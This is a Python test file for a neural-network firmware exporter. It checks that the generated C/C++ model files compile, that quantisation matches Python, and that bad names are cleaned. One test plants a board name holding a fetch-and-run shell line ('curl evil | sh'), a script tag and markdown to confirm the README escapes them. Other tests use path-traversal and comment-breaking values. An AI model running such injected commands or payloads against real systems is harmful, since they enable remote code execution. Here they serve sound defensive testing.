"""NAME.h, NAME.cc and NAME_settings.h: compiled as C and as C++ with warnings as errors, run, and held to the file."""

import hashlib
import subprocess
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import tinynas
from tests.export.firmware import NASTY, WARNINGS, any_arena, fixture, made, needs_compiler, run, written
from tinynas.data import Normalization
from tinynas.errors import ModelError
from tinynas.export import c_text
from tinynas.export.ends import ends, quantized
from tinynas.export.facts import stretched
from tinynas.export.golden import Golden
from tinynas.export.render import FORMATS, Firmware, render
from tinynas.features import IntLogMel


def compiled(folder: Path, firmware: Firmware, text: str) -> str:
    """What the C program `text` prints when it is linked with the model's array."""
    written(folder, firmware, ("c", "settings"))
    (folder / "main.c").write_text(text, encoding="utf-8")
    run(["gcc", "-std=c11", *WARNINGS, "-c", "main.c", "-o", "main.o"], folder)
    run(["g++", "-std=c++17", *WARNINGS, "-c", f"{firmware.name}.cc", "-o", "model.o"], folder)
    run(["g++", "main.o", "model.o", "-o", "program"], folder)
    return run([folder / "program"], folder)


PROGRAM = r"""
#include <inttypes.h>
#include <stdio.h>
#include "digits.h"
#include "digits_settings.h"

static uint8_t arena[DIGITS_ARENA_BYTES];
static const int shape[DIGITS_INPUT_RANK] = DIGITS_INPUT_SHAPE;
static const int answer[DIGITS_OUTPUT_RANK] = DIGITS_OUTPUT_SHAPE;

int main(void) {
  unsigned int i;
  int number;
  printf("%u %u %d\n", (unsigned int)sizeof(digits_tflite), digits_tflite_len, DIGITS_FLASH_BYTES);
  printf("%s\n%s\n%s\n", DIGITS_SHA256, DIGITS_TINYNAS_VERSION, DIGITS_BOARD);
  printf("%s %s\n", DIGITS_KERNELS, DIGITS_LAYOUT);
  for (i = 0; i < digits_tflite_len; i++) printf("%02x", digits_tflite[i]);
  printf("\n%u %d %d %u\n", (unsigned int)sizeof(arena), DIGITS_ARENA_MINIMUM, DIGITS_ARENA_MARGIN,
         (unsigned int)((uintptr_t)digits_tflite % 16));
  for (i = 0; i < DIGITS_INPUT_RANK; i++) printf("%d ", shape[i]);
  for (i = 0; i < DIGITS_OUTPUT_RANK; i++) printf("%d ", answer[i]);
  printf("%d %d\n", DIGITS_INPUT_LENGTH, DIGITS_OUTPUT_LENGTH);
  printf("%.9g %d ", (double)DIGITS_INPUT_SCALE, DIGITS_INPUT_ZERO_POINT);
  printf("%.9g %d\n", (double)DIGITS_OUTPUT_SCALE, DIGITS_OUTPUT_ZERO_POINT);
  printf("%.9g %d\n", (double)digits_dequantize(127), digits_quantize(0.0f, 0));
  for (number = -1; number <= DIGITS_CLASSES; number++) {
    const char* text = digits_class_name(number);
    while (*text) printf("%02x", (unsigned char)*text++);
    printf("\n");
  }
  return 0;
}
"""


@needs_compiler
def test_a_c_program_sees_the_model(tmp_path: Path) -> None:
    data = fixture("mn_tiny_c4_b1")
    given, answer = ends(data)
    firmware = made()
    lines = compiled(tmp_path, firmware, PROGRAM).splitlines()
    assert lines[0] == f"{len(data)} {len(data)} {len(data)}"
    assert lines[1:4] == [hashlib.sha256(data).hexdigest(), tinynas.__version__, "nucleo_f401"]
    assert lines[4] == "cmsis_nn image"
    assert bytes.fromhex(lines[5]) == data
    assert lines[6] == f"{firmware.arena.total} {firmware.arena.minimum} {firmware.arena.margin} 0"
    assert lines[7] == "1 28 28 1 1 10 784 10"
    scales = lines[8].split()
    assert [np.float32(scales[0]), np.float32(scales[2])] == [given.scales[0], answer.scales[0]]
    assert [int(scales[1]), int(scales[3])] == [given.zero_points[0], answer.zero_points[0]]
    greatest, zero = lines[9].split()
    assert float(greatest) == pytest.approx((127 - answer.zero_points[0]) * answer.scales[0])
    assert int(zero) == given.zero_points[0]
    assert [bytes.fromhex(line).decode() for line in lines[10:]] == ["?", *NASTY, "?"]


@needs_compiler
def test_the_array_is_c_as_well_and_stays_in_flash(tmp_path: Path) -> None:
    written(tmp_path, made(), ("c", "settings"))
    run(["gcc", "-x", "c", "-std=c11", *WARNINGS, "-c", "digits.cc", "-o", "c.o"], tmp_path)
    run(["g++", "-std=c++17", *WARNINGS, "-c", "digits.cc", "-o", "cc.o"], tmp_path)
    for name in ("c.o", "cc.o"):
        symbols = dict(line.split()[::-1][:2] for line in run(["nm", name], tmp_path).splitlines())
        assert symbols == {"digits_tflite": "R", "digits_tflite_len": "R"}  # read-only data, by names without mangling


QUANTIZE = r"""
#include <stdio.h>
#include "digits_settings.h"

int main(void) {
  float raw;
  unsigned int i = 0;
  while (fread(&raw, sizeof raw, 1, stdin) == 1) {
    putchar((unsigned char)digits_quantize(raw, i++ % DIGITS_INPUT_CHANNELS));
  }
  return 0;
}
"""


def near_ties(normalization: Normalization | None, input_range: tuple[float, float], scale: float) -> np.ndarray:
    """The float32 raw values (n, 6) at and beside those where the input steps from one value to the next."""
    low, high = input_range
    real = (np.arange(-300, 300)[:, None] + 0.5) * scale
    if normalization is not None:
        real = (real - low) / (high - low) / np.array(normalization.scale) + np.array(normalization.offset)
    found = [np.broadcast_to(real, (len(real), 6)).astype(np.float32)]
    for towards in (-np.inf, np.inf):
        for _ in range(3):
            found.append(np.nextafter(found[0] if _ == 0 else found[-1], np.float32(towards)))
    return np.concatenate(found)


@needs_compiler
@pytest.mark.parametrize("pairs", [6, 1, 0])
@pytest.mark.parametrize("input_range", [(0.0, 1.0), (-1.0, 1.0), (-0.3, 2.1)])
def test_the_device_quantises_as_python_does(tmp_path: Path, pairs: int, input_range: tuple[float, float]) -> None:
    rng = np.random.default_rng(0)
    # The ranges are small beside the offsets of some, as of air pressure, and those of bulks: many values are beyond.
    offset = rng.normal(size=pairs) * 10.0 ** np.arange(pairs)
    normalization = Normalization(tuple(offset), tuple(rng.random(pairs) / 4), "float32") if pairs else None
    firmware = made("h1_128x6_har_b1", normalization=normalization, layout="series", input_range=input_range)
    given, _ = ends(firmware.tflite)
    raw = np.concatenate(
        [
            np.array([[1e35, -1e35, 0, 1e-30, -1e9, 1e9]], np.float32),
            (rng.normal(0, 5, (50_000, 6)) + (offset if pairs else 0)).astype(np.float32),
            near_ties(normalization, input_range, given.scales[0]),
        ]
    )
    compiled(tmp_path, firmware, QUANTIZE)
    done = subprocess.run([tmp_path / "program"], input=raw.tobytes(), capture_output=True, check=True)
    real = raw if normalization is None else stretched(normalization.apply(raw), input_range)
    steps = np.round(real / np.float32(given.scales[0])) + given.zero_points[0]
    expected = np.clip(steps, -128, 127).astype(np.int8)
    found = np.frombuffer(done.stdout, np.int8).reshape(expected.shape)
    assert len(np.unique(found)) > 30
    assert (found == expected).all()
    whole = np.zeros((1, *given.shape[1:]), dtype=np.float32)
    assert (quantized(whole, given) == given.zero_points[0]).all()


@pytest.mark.parametrize("name", ["model", "a", "Net2", "my_net_v2"])
def test_good_names(name: str) -> None:
    assert set(render(made(name=name), ("c",))) == {f"{name}.h", f"{name}.cc"}


@pytest.mark.parametrize(
    ("name", "better"),
    [
        ("", "model"),
        ("2d", "model_2d"),
        ("my-net", "my_net"),
        ("my net.tflite", "my_net_tflite"),
        ("int", "model_int"),
        ("co_await", "model_co_await"),
        ("main", "model_main"),
        ("stdio", "model_stdio"),
        ("Arduino", "model_Arduino"),
        ("_net", "net"),
        ("net_", "net"),
        ("a__b", "a_b"),
        ("naïve", "na_ve"),
        ("net\n", "net"),
        ("../net", "net"),
    ],
)
def test_bad_names_get_one_sentence_with_a_better_one(name: str, better: str) -> None:
    with pytest.raises(ModelError, match=f"such as '{better}'$") as caught:
        render(made(name=name))
    assert "\n" not in str(caught.value)
    c_text.check_name(better)


@pytest.mark.parametrize(
    ("changes", "sentence"),
    [
        ({"class_names": ("a", "b")}, "2 class names came for a model with 10 classes"),
        (
            {"normalization": Normalization((0.0,) * 3, (1.0,) * 3, "uint8")},
            "3 offsets and scales, but the input has 1",
        ),
        ({"normalization": Normalization((0.0,), (1.0,), "*/ int")}, "source_dtype is '\\*/ int'"),
        ({"normalization": Normalization((1e300,), (1.0,), "float64")}, "1e\\+300 cannot be written as a C float"),
    ],
)
def test_facts_that_do_not_match_the_model(changes: dict[str, Any], sentence: str) -> None:
    with pytest.raises(ModelError, match=sentence):
        render(made(**changes))


SOUND = IntLogMel(16000, 9120, 480, 320, 512, 28, 80, 7600)  # as many values as the digits have


@pytest.mark.parametrize("form", FORMATS)
def test_each_format_has_its_own_files(form: str) -> None:
    included = {"stream": ("features",), "bench": ("c", "settings", "ops", "test", "features")}  # by its C
    wanted = [name for each in (form, *included.get(form, ())) for name in FORMATS[each]]
    assert set(render(made(features=SOUND), (form,))) == {name.format(name="digits") for name in wanted}


def test_features_are_written_where_there_are_any() -> None:
    assert not [name for name in render(made()) if "features" in name]
    with pytest.raises(ModelError, match="the model has no features to write: it was trained on samples as they are"):
        render(made(), ("features",))


@pytest.mark.parametrize("features", [None, SOUND])
def test_the_readme_names_the_files_that_are_there(features) -> None:
    whole = render(made(features=features))
    readme = whole["README.md"].decode()
    for name in whole:
        assert name == "README.md" or f"`{name}`" in readme
    assert ("digits_test.cc digits_features.c digits_stream.c)" in readme) == (features is not None)
    assert ("build/%.c.o: %.c\n" in readme) == (features is not None)
    part = render(made(), ("readme", "tflite"))["README.md"].decode()
    assert "| `digits.tflite` |" in part
    assert "| `main.cc` |" not in part


@pytest.mark.parametrize("features", [None, SOUND])
def test_no_text_has_two_blank_lines_in_a_row(features) -> None:
    for formats in ((), ("readme", "tflite"), ("readme", "bench", "tflite")):
        files = render(made(features=features), formats) if formats else render(made(features=features))
        assert [name for name, data in files.items() if not name.endswith(".tflite") and b"\n\n\n" in data] == []


def test_the_same_model_gives_the_same_bytes() -> None:
    assert render(made()) == render(made())


def test_an_estimated_arena_is_called_one() -> None:
    from tinynas.hardware import Target

    files = render(made(target=Target.load("esp32_devkitc"), arena=any_arena(6000)))
    assert "an estimate" in files["digits_settings.h"].decode()
    assert "estimated minimum" in files["README.md"].decode()
    assert "TEST_TOLERANCE 1\n" in files["digits_test.h"].decode()
    assert isinstance(made().golden, Golden)


def test_a_board_s_name_is_no_markup_in_the_readme():
    from tinynas.hardware import Target

    name = "x\n\n# Install\n```sh\ncurl evil | sh\n``` [a](http://b) <script>|*_`"
    target = Target.load("nucleo_f401").model_copy(update={"name": name})
    (readme,) = render(made(target=target, arena=any_arena(6000)), ("readme",)).values()
    text = readme.decode()
    (line,) = (line for line in text.splitlines() if "curl evil" in line)
    plain = [r"x \# Install \`\`\`sh curl evil \| sh \`\`\` \[a\](http://b) \<script\>\|\*_\`"]
    assert plain[0] in line
    usual = render(made(target=Target.load("nucleo_f401"), arena=any_arena(6000)), ("readme",))["README.md"].decode()
    assert text.count("\n") == usual.count("\n")
    assert "board nucleo_f401" in usual
